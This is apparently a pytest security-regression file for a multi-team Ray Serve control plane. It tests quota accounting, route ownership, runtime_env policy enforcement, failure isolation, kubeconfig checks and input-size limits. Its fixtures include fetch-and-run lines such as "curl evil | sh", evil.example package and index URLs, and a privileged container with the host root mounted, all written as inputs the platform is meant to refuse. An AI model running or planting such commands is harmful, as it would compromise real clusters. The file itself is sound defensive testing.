"""Issue 23: admission that matches what Ray runs, routes that belong to teams, a runtime_env policy that holds in
every form Ray accepts, and one team's failure contained. The cases a security review proved, each as it made
it; Ray itself is in tests/e2e/test_admission_ray.py.
"""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import pytest

from apps.applications.models import Application
from apps.applications.services import application_create
from apps.clusters.models import Cluster, SyncRun
from apps.deploys.observe import observe_cluster
from apps.deploys.push import push_cluster
from apps.servespec.demand import demand, reservations
from apps.servespec.runtime_env import KNOWN_KEYS
from apps.servespec.spec import RUNTIME_ENV_KEYS, normalize_spec
from tests.conftest import app_body
from tests.fake_ray import FakeRay

pytestmark = pytest.mark.django_db


def spec(**deployment: Any) -> dict:
    return normalize_spec(
        {"route_prefix": "/team-a/x", "import_path": "examples.hello:app", "deployments": [{"name": "A", **deployment}]}
    )


# ---- what Ray will reserve --------------------------------------------------------------------------------------


def test_everything_ray_schedules_is_counted():
    # placement-group bundles: every bundle of every replica
    assert demand(spec(num_replicas=2, placement_group_bundles=[{"GPU": 1, "CPU": 1}, {"GPU": 0.5}]), "GPU") == 3
    # gangs: whole gangs (3 replicas in gangs of 2 are 4)
    gang = spec(num_replicas=4, gang_scheduling_config={"gang_size": 2}, ray_actor_options={"num_gpus": 1})
    assert demand(gang, "GPU") == 4
    # the surge of a rolling update: 4 replicas with 50% surge run 6 at the peak
    assert demand(spec(num_replicas=4, max_surge_percent=50, ray_actor_options={"num_gpus": 0.5}), "GPU") == 3
    # deployment-scoped actors: once per deployment
    actors = spec(
        num_replicas=2,
        ray_actor_options={"num_gpus": 0.25},
        deployment_actors=[{"name": "cache", "actor_class": "examples.hello:Hello", "actor_options": {"num_gpus": 1}}],
    )
    assert demand(actors, "GPU") == Decimal("1.5")
    # num_cpus: 0 still counts at the accounting floor
    assert demand(spec(num_replicas=10, ray_actor_options={"num_cpus": 0}), "CPU") == Decimal("1.0")


def test_serve_llm_apps_are_counted_from_their_args():
    """build_openai_app keeps GPUs in args.llm_configs[]: tensor x pipeline parallel devices per replica."""
    llm = normalize_spec(
        {
            "route_prefix": "/team-a/llm",
            "import_path": "ray.serve.llm:build_openai_app",
            "args": {
                "llm_configs": [
                    {
                        "model_loading_config": {"model_id": "m"},
                        "engine_kwargs": {"tensor_parallel_size": 2, "pipeline_parallel_size": 2},
                        "deployment_config": {"autoscaling_config": {"min_replicas": 1, "max_replicas": 3}},
                        "accelerator_type": "H100",
                    },
                    {
                        "model_loading_config": {"model_id": "small"},
                        "placement_group_config": {"bundles": [{"GPU": 0.5, "CPU": 1}]},
                    },
                ]
            },
        }
    )
    assert demand(llm, "GPU") == Decimal("12.5")  # 3 x 4 on H100, 1 x 0.5 anywhere
    assert demand(llm, "GPU", "H100") == Decimal("12.5") and demand(llm, "GPU", "a100") == Decimal("0.5")
    assert [r.pool for r in reservations(llm)] == ["H100", None]


@pytest.fixture
def shared(cluster, team_a, team_b, grant, alice, bob):
    grant(team_a, cluster, "0.5")
    grant(team_b, cluster, "4")
    return cluster


def test_gpus_in_a_resource_no_pool_counts_are_refused(shared, api, alice):
    client = api(alice)
    custom = client.post(
        "/api/v1/applications/",
        app_body(
            "team-a", shared.pk, "x", deployments=[{"name": "Hello", "ray_actor_options": {"resources": {"TPU": 8}}}]
        ),
        format="json",
    )
    assert custom.status_code == 400 and "'TPU', which no pool of the cluster counts" in custom.content.decode()
    Cluster.objects.filter(pk=shared.pk).update()
    shared.pools.update(resource="pool_a100")  # the pool counts a custom resource: num_gpus escapes it
    gpus = client.post("/api/v1/applications/", app_body("team-a", shared.pk, "y"), format="json")
    assert gpus.status_code == 400 and "'GPU', which no pool" in gpus.content.decode()
    wrong_pool = client.post(
        "/api/v1/applications/",
        app_body(
            "team-a", shared.pk, "z", deployments=[{"name": "Hello", "ray_actor_options": {"accelerator_type": "H100"}}]
        ),
        format="json",
    )
    assert wrong_pool.status_code == 201  # no GPU asked: an accelerator hint alone reserves nothing here
    assert not Application.objects.filter(name__in=["x", "y"]).exists()


def test_cpus_and_replicas_are_capped_per_team(shared, api, alice):
    """num_cpus: 0 with 1,000 replicas in 50 deployments was admitted."""
    many = [{"name": f"D{i}", "num_replicas": 20, "ray_actor_options": {"num_cpus": 0}} for i in range(50)]
    resp = api(alice).post(
        "/api/v1/applications/", app_body("team-a", shared.pk, "swarm", deployments=many), format="json"
    )
    assert resp.status_code == 400 and "1000 replicas" in resp.json()["deployments"][0]
    Cluster.objects.filter(pk=shared.pk).update(team_max_apps=1)
    assert (
        api(alice).post("/api/v1/applications/", app_body("team-a", shared.pk, "one"), format="json").status_code == 201
    )
    second = api(alice).post("/api/v1/applications/", app_body("team-a", shared.pk, "two"), format="json")
    assert second.status_code == 400 and "the most a team may (1)" in second.json()["name"][0]


def test_an_external_scaler_only_where_the_control_plane_mediates_it(shared, api, alice):
    """On an open Ray dashboard anyone could set any replica count through Ray's scale endpoint: refused. On a
    cluster whose dashboard takes a token (the control plane holds it), the endpoint is reached through the
    control plane only, which admits each target (tests/test_ray_api.py)."""
    body = app_body("team-a", shared.pk, "x", external_scaler_enabled=True)
    resp = api(alice).post("/api/v1/applications/", body, format="json")
    assert resp.status_code == 400 and "takes no token" in resp.json()["external_scaler_enabled"][0]
    assert not Application.objects.exists()
    shared.auth_token = "ray-token"
    shared.save(update_fields=["auth_token"])
    assert api(alice).post("/api/v1/applications/", body, format="json").status_code == 201


# ---- routes belong to teams -------------------------------------------------------------------------------------


def test_routes_belong_to_teams(shared, api, alice, bob, make_team, make_user, staff):
    vision = make_team("vision", make_user("vera"))
    a, b = api(alice), api(bob)
    for route, why in (
        ("/", "routes live under /team-a"),  # the catch-all: every other team's unmatched paths
        ("/vision", "routes live under /team-a"),  # another team's namespace, even before it has an app
        ("/team-b/app", "routes live under /team-a"),
    ):
        resp = a.post("/api/v1/applications/", app_body("team-a", shared.pk, "x", route_prefix=route), format="json")
        assert resp.status_code == 400 and why in resp.json()["route_prefix"][0], (route, resp.content)
    assert b.post("/api/v1/applications/", app_body("team-b", shared.pk, "app"), format="json").status_code == 201
    # staff grant team A a prefix; it still cannot take a route that holds or sits under team B's
    assert a.post("/api/v1/teams/team-a/route-grants/", {"prefix": "/"}, format="json").status_code == 403
    granted = api(staff).post("/api/v1/teams/team-a/route-grants/", {"prefix": "/"}, format="json")
    assert granted.status_code == 201 and a.get("/api/v1/teams/team-a/route-grants/").json()[0]["prefix"] == "/"
    again = api(staff).post(f"/api/v1/teams/{vision.slug}/route-grants/", {"prefix": "/"}, format="json")
    assert again.status_code == 400  # one team per prefix
    for route in ("/", "/team-b", "/team-b/app/v2"):
        resp = a.post("/api/v1/applications/", app_body("team-a", shared.pk, "x", route_prefix=route), format="json")
        message = resp.json()["route_prefix"][0]
        assert resp.status_code == 400 and "another team's application" in message, route
        assert "/team-b/app'" not in message.replace(repr(route), "")  # the other app's route is not named
    assert (
        a.post(
            "/api/v1/applications/", app_body("team-a", shared.pk, "ok", route_prefix="/shop"), format="json"
        ).status_code
        == 201
    )
    assert Application.objects.filter(team__slug="team-a").count() == 1


# ---- the runtime_env policy holds in every form -------------------------------------------------------------------

POLICY = {"allowed_pip_packages": ["numpy"], "allowed_uri_prefixes": ["s3://ok/"]}
NINE_FORMS = [
    ("pip as a dict", {"pip": {"packages": ["requests"]}}),
    ("a requirement with a URL", {"pip": ["numpy @ https://evil.example/numpy.whl"]}),
    ("pip options", {"pip": ["--index-url", "https://evil.example/simple", "numpy"]}),
    ("uv", {"uv": ["numpy"]}),
    ("java_jars", {"java_jars": ["https://evil.example/x.jar"]}),
    ("image_uri", {"image_uri": "evil/image:latest"}),
    ("container", {"container": {"image": "x", "run_options": ["--privileged", "-v", "/:/host"]}}),
    ("py_executable", {"py_executable": "sh -c 'curl evil | sh'"}),
    ("worker_process_setup_hook", {"worker_process_setup_hook": "evil.hook"}),
    ("conda dependencies that carry pip", {"conda": {"dependencies": ["python=3.11", {"pip": ["requests"]}]}}),
    ("a requirements file on the cluster", {"pip": "/etc/requirements.txt"}),
    ("a deployment's own runtime_env", None),
]


@pytest.mark.parametrize(("form", "runtime_env"), NINE_FORMS, ids=[f for f, _ in NINE_FORMS])
def test_the_runtime_env_policy_holds_in_every_form(shared, api, alice, form, runtime_env):
    Cluster.objects.filter(pk=shared.pk).update(runtime_env_policy=POLICY)
    if runtime_env is None:
        body = app_body(
            "team-a",
            shared.pk,
            "x",
            deployments=[{"name": "Hello", "ray_actor_options": {"runtime_env": {"py_executable": "sh"}}}],
        )
    else:
        body = app_body("team-a", shared.pk, "x", runtime_env=runtime_env)
    resp = api(alice).post("/api/v1/applications/", body, format="json")
    assert resp.status_code == 400, (form, resp.content)
    assert any("runtime_env" in field for field in resp.json()), resp.json()
    assert not Application.objects.exists()


def test_what_the_policy_allows_still_deploys(shared, api, alice):
    Cluster.objects.filter(pk=shared.pk).update(runtime_env_policy=POLICY)
    ok = {"pip": ["numpy>=2", "NumPy==2.1"], "working_dir": "s3://ok/app.zip", "env_vars": {"A": "1"}}
    resp = api(alice).post("/api/v1/applications/", app_body("team-a", shared.pk, "x", runtime_env=ok), format="json")
    assert resp.status_code == 201, resp.content
    # staff turn a key on for the cluster
    Cluster.objects.filter(pk=shared.pk).update(
        runtime_env_policy={**POLICY, "allowed_keys": ["env_vars", "image_uri"]}
    )
    img = api(alice).post(
        "/api/v1/applications/",
        app_body(
            "team-a",
            shared.pk,
            "y",
            runtime_env={"image_uri": "ok/image"},
            deployments=[{"name": "Hello", "ray_actor_options": {"num_cpus": 0.1}}],
        ),
        format="json",
    )
    assert img.status_code == 201, img.content


def test_every_runtime_env_key_ray_knows_has_a_rule():
    from ray.runtime_env import RuntimeEnv

    assert set(RuntimeEnv.known_fields) == set(RUNTIME_ENV_KEYS) == set(KNOWN_KEYS)


def test_a_policy_with_unknown_keys_is_refused(api, staff, cluster):
    resp = api(staff).patch(
        f"/api/v1/clusters/{cluster.pk}/", {"runtime_env_policy": {"allow_everything": True}}, format="json"
    )
    assert resp.status_code == 400 and "allow_everything" in resp.content.decode()


# ---- one team's failure stays that team's -------------------------------------------------------------------------


class RefusingRay(FakeRay):
    """Ray's dashboard as 2.60 answers a config whose autoscaling policy names a module it cannot import: HTTP 500
    for the whole PUT (every other app in it refused with it)."""

    def __init__(self, module: str, *, name_it: bool = True) -> None:
        super().__init__()
        self.module, self.name_it = module, name_it
        self.refused = 0

    def put(self, config: dict) -> str | None:
        if self.module in str(config):
            self.refused += 1
            return "RAISE500"
        return super().put(config)


@pytest.fixture
def refusing(monkeypatch):
    made = []

    def start(module: str, name_it: bool = True) -> RefusingRay:
        ray = RefusingRay(module, name_it=name_it)

        from http.server import BaseHTTPRequestHandler

        handler = ray.server.RequestHandlerClass
        original = handler.do_PUT

        def do_put(self: BaseHTTPRequestHandler) -> None:
            import json

            length = int(self.headers.get("Content-Length", "0"))
            config = json.loads(self.rfile.read(length) or b"{}")
            error = ray.put(config)
            if error == "RAISE500":
                text = (
                    "Traceback (most recent call last):\n  ...\nModuleNotFoundError: No module named '"
                    + ray.module
                    + "'"
                )
                raw = text.encode()
                self.send_response(500)
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)
                return
            raw = json.dumps(error).encode() if error else b""
            self.send_response(400 if error else 200)
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        handler.do_PUT = do_put
        made.append((ray, handler, original))
        return ray.start()

    yield start
    for ray, handler, original in made:
        handler.do_PUT = original
        ray.stop()


def test_a_bad_app_does_not_stop_the_others_and_costs_them_one_extra_push(
    refusing, make_cluster, team_a, team_b, grant, alice, bob
):
    ray = refusing("team_a_policies")
    cluster = make_cluster(dashboard_url=ray.url)
    grant(team_a, cluster, "4")
    grant(team_b, cluster, "4")
    bad = {
        "route_prefix": "/team-a/bad",
        "import_path": "examples.hello:app",
        "autoscaling_policy": {"policy_function": "team_a_policies.scale:policy"},
    }
    good = {"route_prefix": "/team-b/good", "import_path": "examples.hello:app"}
    bad_app = application_create(actor=alice, team=team_a, cluster=cluster, name="bad", spec=bad)
    good_app = application_create(actor=bob, team=team_b, cluster=cluster, name="good", spec=good)
    result = push_cluster(cluster.pk)
    runs = list(SyncRun.objects.filter(pk__in=result.runs).order_by("id"))
    assert [r.state for r in runs] == ["failed", "succeeded"], [(r.state, r.error[:80]) for r in runs]
    assert list(runs[0].faults) == [bad_app.serve_name] and "team_a_policies" in runs[0].faults[bad_app.serve_name]
    assert [a["name"] for a in ray.puts[-1]["applications"]] == [good_app.serve_name]  # one extra push
    bad_app.refresh_from_db()
    assert bad_app.state == Application.State.DEPLOY_FAILED and "No module named 'team_a_policies'" in bad_app.fault
    # the team fixes it: the new revision goes out, the fault no longer applies
    from apps.applications.services import application_update

    application_update(actor=alice, application=bad_app, spec={**bad, "autoscaling_policy": None})
    push_cluster(cluster.pk)
    assert {a["name"] for a in ray.puts[-1]["applications"]} == {bad_app.serve_name, good_app.serve_name}


def test_an_unattributable_refusal_is_bisected(refusing, make_cluster, team_a, grant, alice, monkeypatch):
    """Ray's answer names neither an app nor a module the control plane can tie to one: the apps this push changes
    are tried in halves."""
    import apps.deploys.isolation as isolation

    monkeypatch.setattr(isolation, "culprits_from_message", lambda message, merged: {})
    ray = refusing("poison_module")
    cluster = make_cluster(dashboard_url=ray.url)
    grant(team_a, cluster, "8")
    names = []
    for i in range(6):
        extra = {"args": {"note": "poison_module"}} if i == 4 else {}
        app = application_create(
            actor=alice,
            team=team_a,
            cluster=cluster,
            name=f"app{i}",
            spec={"route_prefix": f"/team-a/app{i}", "import_path": "examples.hello:app", **extra},
        )
        names.append(app.serve_name)
    result = push_cluster(cluster.pk)
    runs = list(SyncRun.objects.filter(pk__in=result.runs).order_by("id"))
    assert runs[0].faults and list(runs[0].faults) == [names[4]]
    assert runs[-1].state == "succeeded" and {a["name"] for a in ray.puts[-1]["applications"]} == set(names) - {
        names[4]
    }


def test_code_level_options_are_held_to_the_quota(make_cluster, team_a, grant, alice, monkeypatch):
    """A config listing {"name": "Hog"} was admitted as 0 GPUs while Ray ran the code's 3 x 1 GPU on a 0.5 quota.
    Ray's own figure (what it reports it applied) is held against what was admitted; the app is held back."""
    ray = FakeRay().start()
    try:
        cluster = make_cluster(dashboard_url=ray.url)
        grant(team_a, cluster, "0.5")
        app = application_create(
            actor=alice,
            team=team_a,
            cluster=cluster,
            name="greedy",
            spec={
                "route_prefix": "/team-a/greedy",
                "import_path": "examples.greedy:app",
                "deployments": [{"name": "Hog"}],
            },
        )
        push_cluster(cluster.pk)
        # what Ray 2.60 reports for it: the code's options, applied where the config is silent
        details = ray.apps[app.serve_name]["deployments"]["Hog"]
        details["deployment_config"] = {
            "name": "Hog",
            "num_replicas": 3,
            "ray_actor_options": {"num_cpus": 0.1, "num_gpus": 1.0},
        }
        details["required_resources"] = {"CPU": 0.1, "GPU": 1.0}
        ray.settle_after = 0
        enqueued = []
        monkeypatch.setattr("apps.deploys.observe.enqueue", lambda *a: enqueued.append(a) or True)
        observe_cluster(cluster.pk)
        app.refresh_from_db()
        assert app.fault_revision_id == app.current_revision_id and app.state == Application.State.DEPLOY_FAILED
        assert "Ray runs 3 GPU (admitted 0)" in app.fault and "Hog: 3 x 1 GPU" in app.fault
        assert app.observed_demand == {"GPU": "3"} and enqueued
        from apps.alerts.models import Incident
        from apps.alerts.services import ensure_default_rules, evaluate

        ensure_default_rules()
        evaluate()
        incident = Incident.objects.get(application=app, state="open")  # the team is told
        assert incident.kind == "app_failed" and incident.team_id == team_a.pk
        push_cluster(cluster.pk)
        assert ray.puts[-1]["applications"] == []  # never ran within its quota: nothing of it runs
    finally:
        ray.stop()


KUBECONFIG_EXEC = """
apiVersion: v1
kind: Config
clusters: [{name: k, cluster: {server: "https://k8s.example:6443"}}]
contexts: [{name: k, context: {cluster: k, user: u}}]
current-context: k
users:
  - name: u
    user:
      exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: ["-c", "curl evil | sh"]}
"""


@pytest.mark.parametrize("user", ["exec", "auth-provider"])
def test_a_kubeconfig_whose_user_runs_a_command_is_refused(api, staff, user):
    import yaml

    doc = yaml.safe_load(KUBECONFIG_EXEC)
    if user == "auth-provider":
        doc["users"][0]["user"] = {"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}}}
    body = {
        "name": "k",
        "kind": "kuberay",
        "dashboard_url": "http://127.0.0.1:1",
        "k8s_namespace": "ml",
        "k8s_name": "serve",
        "kubeconfig": yaml.safe_dump(doc),
        "pools": [{"name": "a100", "resource": "GPU", "capacity": "8"}],
    }
    resp = api(staff).post("/api/v1/clusters/", body, format="json")
    assert resp.status_code == 400 and "runs a command" in resp.json()["kubeconfig"][0]
    assert "curl evil" not in resp.content.decode() and not Cluster.objects.filter(name="k").exists()
    from workers.clients.kuberay import api_for

    with pytest.raises(ValueError, match="runs a command"):
        api_for(yaml.safe_dump(doc))


# ---- input that costs the attacker more than the server --------------------------------------------------------


@pytest.mark.parametrize(
    ("what", "body", "content_type", "status", "says"),
    [
        ("40 KB nested YAML", "applications: " + "[" * 20000 + "]" * 20000, "application/yaml", 400, "32 levels"),
        ("400 KB nested YAML", "applications: " + "[" * 200000 + "]" * 200000, "application/yaml", 400, "32 levels"),
        ("depth 1,000 JSON", '{"applications": ' + "[" * 1000 + "]" * 1000 + "}", "application/json", 400, "32 levels"),
        ("a file over the limit", "applications: []\n" + "#" * (1024 * 1024), "application/yaml", 413, "1024 KiB"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 30 else None,
)
def test_hostile_documents_are_refused_within_a_second_naming_the_limit(
    shared, api, alice, settings, what, body, content_type, status, says
):
    import time

    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4 * 1024 * 1024  # the file's own limit answers here
    started = time.monotonic()
    resp = api(alice).post(
        f"/api/v1/teams/team-a/serve-config/?cluster={shared.pk}", body.encode(), content_type=content_type
    )
    took = time.monotonic() - started
    assert resp.status_code == status and says in resp.content.decode(), (what, resp.content[:200])
    assert resp["Content-Type"].startswith("application/json")
    assert took < 1.0, f"{what}: answered in {took:.2f} s"


def test_a_body_over_the_upload_limit_is_a_json_413(shared, api, alice, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024 * 1024
    big = {"team": "team-a", "cluster": shared.pk, "name": "x", "args": {"blob": "x" * (2 * 1024 * 1024)}}
    resp = api(alice).post("/api/v1/applications/", big, format="json")
    assert resp.status_code == 413 and resp["Content-Type"] == "application/json"
    assert "larger than 1024 KiB" in resp.json()["detail"]


def test_a_scale_down_read_before_ray_applies_it_is_not_held_back(make_cluster, team_a, grant, alice, monkeypatch):
    """6 x 1 GPU scaled to 1: the observation right after the push can still read Ray's old figure (6 GPUs) because
    Ray has not applied the new config yet. That was admitted before (the good revision), so the app is not held
    back to it (the compaction e2e test saw the scale-down never reach Ray); an app over both figures still is."""
    import copy

    from apps.applications.services import application_update

    ray = FakeRay().start()
    try:
        cluster = make_cluster(dashboard_url=ray.url)
        grant(team_a, cluster, "6")
        six = spec(num_replicas=6, ray_actor_options={"num_gpus": 1})
        app = application_create(actor=alice, team=team_a, cluster=cluster, name="filler", spec=six)
        push_cluster(cluster.pk)
        ray.settle_after = 0
        details = ray.apps[app.serve_name]["deployments"]["A"]
        details["deployment_config"] = {"name": "A", "num_replicas": 6, "ray_actor_options": {"num_gpus": 1.0}}
        details["required_resources"] = {"GPU": 1.0}
        monkeypatch.setattr("apps.deploys.observe.enqueue", lambda *a: True)
        observe_cluster(cluster.pk)
        app.refresh_from_db()
        assert app.good_revision_id == app.deployed_revision_id and not app.fault
        old = copy.deepcopy(ray.apps[app.serve_name])
        application_update(actor=alice, application=app, spec=spec(num_replicas=1, ray_actor_options={"num_gpus": 1}))
        push_cluster(cluster.pk)
        ray.apps[app.serve_name] = old  # Ray still shows the old config and its six replicas
        observe_cluster(cluster.pk)
        app.refresh_from_db()
        assert app.deployed_revision_id == app.current_revision_id
        assert not app.fault and app.fault_revision_id is None, app.fault
        greedy = copy.deepcopy(old)  # over both figures: 8 GPUs while Ray has not applied the config
        greedy["deployments"]["A"]["deployment_config"]["num_replicas"] = 8
        ray.apps[app.serve_name] = greedy
        observe_cluster(cluster.pk)
        app.refresh_from_db()
        assert "Ray runs 8 GPU" in app.fault
    finally:
        ray.stop()
